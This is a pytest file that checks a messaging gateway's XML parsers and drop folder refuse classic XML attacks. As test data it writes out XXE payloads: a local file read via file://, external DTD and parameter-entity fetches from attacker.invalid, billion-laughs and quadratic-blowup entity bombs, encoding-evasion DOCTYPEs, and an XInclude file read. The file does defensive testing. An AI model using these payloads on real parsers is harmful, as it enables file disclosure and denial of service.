"""Every entry point that parses XML refuses the classic attacks with a clear error.

The entry points: drop files and inbound/receipt files (``dropfile``), Content
documents (``content``, and the opt-in XSD check), the wire payloads every server
request and response carries (``payloads.parse_*``: the server parses requests with
them after opening the envelope), and the drop folder itself, which moves such a
file to ``failed/`` with the reason. All of them go through ``mpg.wire.xmlsafe``.
"""

from __future__ import annotations

import pathlib
import threading
from collections.abc import Callable

import pytest

from mpg import config, errors
from mpg.gateway import dropfolder
from mpg.storage import database, outbox
from mpg.wire import content, dropfile, payloads, xmlsafe, xsd

SECRET = "top-secret-line"


def _attacks(root: str, secret_file: pathlib.Path) -> dict[str, bytes]:
    return {
        "external-entity": (
            f'<?xml version="1.0"?>\n<!DOCTYPE {root} [<!ENTITY x SYSTEM "file://{secret_file}">]>\n'
            f"<{root}>&x;</{root}>"
        ).encode(),
        "external-dtd-over-network": (
            f'<!DOCTYPE {root} SYSTEM "http://attacker.invalid/evil.dtd"><{root}/>'
        ).encode(),
        "parameter-entities": (
            f'<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://attacker.invalid/p.dtd"> %p;]><{root}/>'
        ).encode(),
        "billion-laughs": (
            f'<!DOCTYPE {root} [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
            f"<{root}>&d;</{root}>"
        ).encode(),
        "quadratic-blowup": (
            f'<!DOCTYPE {root} [<!ENTITY a "{"x" * 50_000}">]><{root}>{"&a;" * 2000}</{root}>'
        ).encode(),
        "doctype-after-bom-and-comment": (
            f"\ufeff<!-- hi --><!DOCTYPE {root} [<!ENTITY x 'y'>]><{root}>&x;</{root}>"
        ).encode(),
        "utf16-doctype": (
            f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE {root} [<!ENTITY x "y">]><{root}>&x;</{root}>'
        ).encode("utf-16"),
        "oversized": f"<{root}>".encode() + b" " * (xmlsafe.MAX_BYTES + 1) + f"</{root}>".encode(),
    }


ENTRY_POINTS: dict[str, tuple[str, Callable[[bytes], object]]] = {
    "drop file": ("message", dropfile.parse_message),
    "inbound file re-read": ("message", dropfile.parse_message),
    "receipt file": ("receipt", dropfile.parse_receipt),
    "content": ("content", content.parse_content),
    "recall content (server)": ("content", content.parse_recall),
    "content xsd check": ("content", xsd.check_content),
    "submit request": ("submit", payloads.parse_submit),
    "submitted response": ("submitted", payloads.parse_submitted),
    "fetch request": ("fetch", payloads.parse_fetch),
    "deliveries response": ("deliveries", payloads.parse_deliveries),
    "ack request": ("ack", payloads.parse_ack),
    "acked response": ("acked", payloads.parse_acked),
}
ATTACK_NAMES = list(_attacks("x", pathlib.Path("/x")))


@pytest.fixture
def secret_file(tmp_path: pathlib.Path) -> pathlib.Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET)
    return path


@pytest.mark.parametrize("attack", ATTACK_NAMES)
@pytest.mark.parametrize("entry", list(ENTRY_POINTS))
def test_entry_point_refuses_attack(entry: str, attack: str, secret_file: pathlib.Path) -> None:
    """The document is refused with an error saying why; nothing is fetched or expanded."""
    root, parse = ENTRY_POINTS[entry]
    document = _attacks(root, secret_file)[attack]
    with pytest.raises(errors.MpgError) as caught:
        parse(document)
    message = str(caught.value)
    assert SECRET not in message
    if attack == "oversized":
        assert "exceeds" in message
    else:
        assert "DOCTYPE (DTDs and entities are refused)" in message


@pytest.mark.parametrize("entry", ["drop file", "content", "submit request"])
def test_xinclude_is_never_processed(entry: str, secret_file: pathlib.Path) -> None:
    """An xi:include stays an inert element: the file it names is never read in."""
    root, parse = ENTRY_POINTS[entry]
    document = (
        f'<{root} xmlns:xi="http://www.w3.org/2001/XInclude">'
        f'<xi:include href="file://{secret_file}" parse="text"/></{root}>'
    ).encode()
    assert SECRET not in _outcome(parse, document)


def _outcome(parse: Callable[[bytes], object], document: bytes) -> str:
    """What parsing gave (its repr) or the error it raised (its message)."""
    try:
        return repr(parse(document))
    except errors.MpgError as exc:
        return str(exc)


def test_drop_folder_moves_an_attack_to_failed_with_the_reason(
    tmp_path: pathlib.Path, secret_file: pathlib.Path
) -> None:
    """A hostile drop file inserts nothing and lands in failed/ saying why."""
    engine = database.create_engine(f"sqlite:///{tmp_path / 'g.db'}")
    database.init_db(engine)
    try:
        repo = outbox.OutboxRepository(engine, "erp-a@example.com", "utc")
        settings = config.GatewaySettings(
            account="erp-a@example.com", drop_dir=tmp_path / "drop", drop_settle=0
        )
        folder = dropfolder.DropFolder(settings, repo, stop=threading.Event())
        folder.prepare()
        for name, document in _attacks("message", secret_file).items():
            if name != "oversized":
                (folder.folder / f"{name}.xml").write_bytes(document)
        result = folder.scan()
        assert result.failed == len(ATTACK_NAMES) - 1
        assert repo.counts() == {}
        for error in folder.failed.glob("*.error.txt"):
            text = error.read_text(encoding="utf-8")
            assert "DOCTYPE (DTDs and entities are refused)" in text
            assert SECRET not in text
    finally:
        engine.dispose()


def test_drop_folder_refuses_a_file_over_its_size_limit(tmp_path: pathlib.Path) -> None:
    """drop_max_bytes bounds a drop file before it is parsed."""
    with pytest.raises(errors.DropFileError, match="exceeds the 2048 limit"):
        dropfile.parse_message(b"<message>" + b" " * 4096 + b"</message>", max_bytes=2048)
